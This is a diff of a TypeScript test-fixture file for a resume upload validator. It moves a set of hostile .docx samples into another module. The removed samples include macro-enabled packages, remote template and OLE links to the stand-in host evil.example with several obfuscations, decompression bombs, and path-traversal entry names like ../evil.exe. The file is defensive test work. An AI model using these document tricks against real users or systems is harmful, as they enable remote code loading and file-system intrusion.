@@ -1,20 +1,10 @@
 /** Resumes for tests of form, outbox and relay: files that people send, and files that must be refused. */
 import type { FieldError } from '../field-error.ts'
 import { RESUME_MAX_BYTES } from '../resume.ts'
-import { bytesOf, fromHex, joined, replaced, utf16Of } from './bytes.ts'
+import { bytesOf, fromHex, joined } from './bytes.ts'
 import { compoundFile, wordStream } from './compound-files.ts'
-import {
-  contentTypes,
-  DOCX_TYPE,
-  documentParts,
-  docxBomb,
-  docxOf,
-  docxWithLink,
-  docxWithOverlap,
-  relationships,
-  renamedLocally,
-  zipOf,
-} from './word-packages.ts'
+import { hostileDocx } from './hostile-docx.ts'
+import { contentTypes, DOCX_TYPE, documentParts, docxOf, docxWithLink, zipOf } from './word-packages.ts'
 
 export interface SampleResume {
   why: string
@@ -136,7 +126,18 @@ export function pdfOf(bytes: number): Uint8Array<ArrayBuffer> {
 
 /** Files that must be refused, each with the reason that the applicant is told. */
 export async function hostileResumes(): Promise<HostileResume[]> {
-  return [...hostileNames(), ...(await otherFormats()), ...hostileDocs(), ...(await hostileDocx()), ...wrongSizes()]
+  return [
+    ...hostileNames(),
+    ...(await otherFormats()),
+    ...hostileDocs(),
+    ...(await hostileDocx()).map(([what, error, bytes]) => ({
+      why: `${what} named .docx`,
+      name: 'cv.docx',
+      bytes,
+      error,
+    })),
+    ...wrongSizes(),
+  ]
 }
 
 function hostileNames(): HostileResume[] {
@@ -205,188 +206,6 @@ function hostileDocs(): HostileResume[] {
     ['an encrypted package', 'resume_protected', compoundFile(['EncryptionInfo', 'EncryptedPackage'])],
   ]
   return rows.map(([what, error, bytes]) => ({ why: `${what} named .doc`, name: 'cv.doc', bytes, error }))
-}
-
-async function hostileDocx(): Promise<HostileResume[]> {
-  const files = await Promise.all([otherPackages(), macroDocuments(), linkedDocuments(), brokenDocuments()])
-  return files.flat().map(([what, error, bytes]) => ({ why: `${what} named .docx`, name: 'cv.docx', bytes, error }))
-}
-
-type Row = [what: string, error: FieldError, bytes: Uint8Array<ArrayBuffer>]
-
-async function otherPackages(): Promise<Row[]> {
-  const office = 'application/vnd.openxmlformats-officedocument'
-  return [
-    [
-      'a workbook',
-      'resume_mismatch',
-      await zipOf({
-        '[Content_Types].xml': contentTypes(`${office}.spreadsheetml.sheet.main+xml`),
-        'xl/workbook.xml': '<workbook/>',
-      }),
-    ],
-    [
-      'slides',
-      'resume_mismatch',
-      await zipOf({
-        '[Content_Types].xml': contentTypes(`${office}.presentationml.presentation.main+xml`),
-        'ppt/presentation.xml': '<presentation/>',
-      }),
-    ],
-    [
-      'an OpenDocument text',
-      'resume_mismatch',
-      await zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office/>' }, { level: 0 }),
-    ],
-    [
-      'a book',
-      'resume_mismatch',
-      await zipOf({ mimetype: 'application/epub+zip', 'META-INF/container.xml': '<container/>' }, { level: 0 }),
-    ],
-    [
-      'a Java program',
-      'resume_mismatch',
-      await zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': '\xca\xfe\xba\xbe' }),
-    ],
-    ['an archive of files', 'resume_mismatch', await zipOf({ 'cv.exe': 'MZ\x90\0' })],
-    ['an archive with another archive in it', 'resume_mismatch', await zipOf({ 'cv.docx': await docxOf() })],
-  ]
-}
-
-async function macroDocuments(): Promise<Row[]> {
-  const macroEnabled = 'application/vnd.ms-word.document.macroEnabled.main+xml'
-  const project = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-  return [
-    [
-      'a .docm',
-      'resume_macros',
-      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled, project), 'word/vbaProject.bin': 'x' }),
-    ],
-    [
-      'a macro-enabled content type',
-      'resume_macros',
-      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled) }),
-    ],
-    [
-      'a macro-enabled content type in references',
-      'resume_macros',
-      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled.replace('macro', '&#109;&#x61;cro')) }),
-    ],
-    [
-      'a macro-enabled content type in UTF-16',
-      'resume_macros',
-      await docxOf({ '[Content_Types].xml': utf16Of(`\ufeff${contentTypes(macroEnabled)}`) }),
-    ],
-    [
-      'macros in a part of another name',
-      'resume_macros',
-      await docxOf({ '[Content_Types].xml': contentTypes(DOCX_TYPE, project), 'word/x.bin': 'x' }),
-    ],
-    ['macros in an odd place', 'resume_macros', await docxOf({ 'customXml/deep/VBAProject.BIN': 'x' })],
-    ['macros behind a backslash', 'resume_macros', await docxOf({ 'word\\vbaProject.bin': 'x' })],
-  ]
-}
-
-async function linkedDocuments(): Promise<Row[]> {
-  const settings = 'word/_rels/settings.xml.rels'
-  const body = 'word/_rels/document.xml.rels'
-  const links: [what: string, part: string, type: string, target: string][] = [
-    ['a template from the web', settings, 'attachedTemplate', 'https://evil.example/x.dotm'],
-    ['a template address in references', settings, 'attachedTemplate', '&#104;ttp&#x3A;//evil.example/x.dotm'],
-    ['a template in a Windows share', settings, 'attachedTemplate', '\\\\evil.example\\share\\x.dotm'],
-    ['a template in a share as file address', settings, 'attachedTemplate', 'file:///\\\\evil.example\\share\\x.dotm'],
-    ['a template on a file server', settings, 'attachedTemplate', 'file://evil.example/x.dotm'],
-    [
-      'a template on a server called like this one',
-      settings,
-      'attachedTemplate',
-      'file://localhost.evil.example/x.dotm',
-    ],
-    ['a template in an escaped share', settings, 'attachedTemplate', '%5C%5Cevil.example%5Cx.dotm'],
-    ['a template by FTP', settings, 'attachedTemplate', 'ftp://evil.example/x.dotm'],
-    ['an object from the web', body, 'oleObject', 'http://evil.example/x.html!'],
-    [
-      'an object as web archive',
-      body,
-      'oleObject',
-      'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
-    ],
-    ['a frame', 'word/_rels/webSettings.xml.rels', 'frame', 'http://evil.example/'],
-    ['a subdocument', body, 'subDocument', 'https://evil.example/x.docx'],
-    ['a chunk', body, 'aFChunk', 'https://evil.example/x.html'],
-  ]
-  const rows = links.map(
-    async ([what, part, type, target]): Promise<Row> => [what, 'resume_macros', await docxWithLink(part, type, target)],
-  )
-  const hidden = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
-  return [
-    ...(await Promise.all(rows)),
-    [
-      'a template with a > in an attribute',
-      'resume_macros',
-      await docxOf({ [settings]: hidden.replace('Id="', 'Note=">" Id="') }),
-    ],
-    ['a template in apostrophes', 'resume_macros', await docxOf({ [settings]: hidden.replaceAll('"', "'") })],
-    [
-      'a template under a prefix',
-      'resume_macros',
-      await docxOf({ [settings]: hidden.replace('<Relationship ', '<r:Relationship\n') }),
-    ],
-    ['a template in UTF-16', 'resume_macros', await docxOf({ [settings]: utf16Of(`\ufeff${hidden}`) })],
-    [
-      'a template in an entity',
-      'resume_damaged',
-      await docxOf({
-        [settings]: `<!DOCTYPE r [<!ENTITY x "https://evil.example/">]>${hidden.replace('https://evil.example/', '&x;')}`,
-      }),
-    ],
-  ]
-}
-
-async function brokenDocuments(): Promise<Row[]> {
-  const docx = await docxOf()
-  const stored = await zipOf(documentParts(), { level: 0 })
-  const empty = Object.fromEntries(Array.from({ length: 2001 }, (_, index) => [`word/media/${index}`, '']))
-  const evil = await docxOf({ 'up/evil.exe': 'MZ' })
-  return [
-    [
-      'a document under a password',
-      'resume_protected',
-      compoundFile(['EncryptionInfo', 'EncryptedPackage', '\x06DataSpaces/']),
-    ],
-    [
-      'an archive under a password',
-      'resume_protected',
-      await zipOf(documentParts(), { password: 'secret', zipCrypto: true }),
-    ],
-    ['an archive under a strong password', 'resume_protected', await zipOf(documentParts(), { password: 'secret' })],
-    ['a document that unpacks to 110 MB', 'resume_damaged', await docxBomb(11, 10_000_000)],
-    ['a document that lies about its unpacked size', 'resume_damaged', await docxBomb(11, 1000)],
-    ['a document that claims to unpack to 4 GB', 'resume_damaged', await docxBomb(1, 0xfffffffe)],
-    [
-      'relationships of 3 MB',
-      'resume_damaged',
-      await docxOf({ 'word/_rels/document.xml.rels': ' '.repeat(3_000_000) }),
-    ],
-    ['thousands of parts', 'resume_damaged', await docxOf(empty)],
-    ['parts that overlap', 'resume_damaged', await docxWithOverlap()],
-    ['two parts of one name', 'resume_damaged', await docxOf({ 'WORD/Document.xml': '<other/>' })],
-    ['a truncated document', 'resume_damaged', docx.slice(0, -30)],
-    ['half a document', 'resume_damaged', docx.slice(0, docx.length / 2)],
-    ['a document with other text than its checksum', 'resume_damaged', replaced(stored, 'w:body', 'w:evil')],
-    [
-      'a document with broken compression',
-      'resume_damaged',
-      joined(docx.subarray(0, 60), bytesOf('\xff\xff\xff\xff\xff\xff'), docx.subarray(66)),
-    ],
-    ['a signature alone', 'resume_damaged', docx.slice(0, 4)],
-    ['a signature with noise', 'resume_damaged', joined(docx.subarray(0, 4), pdfOf(2000))],
-    ['a part above the archive', 'resume_damaged', replaced(evil, 'up/evil.exe', '../evil.exe')],
-    ['a part above the archive, with a backslash', 'resume_damaged', replaced(evil, 'up/evil.exe', '..\\evil.exe')],
-    ['a part at the root of the disk', 'resume_damaged', replaced(evil, 'up/evil.exe', '/p/evil.exe')],
-    ['a part on a drive', 'resume_damaged', replaced(evil, 'up/evil.exe', 'C:/evil.exe')],
-    ['local names that differ', 'resume_damaged', renamedLocally(evil, 'up/evil.exe', 'up/kind.txt')],
-  ]
 }
 
 function wrongSizes(): HostileResume[] {
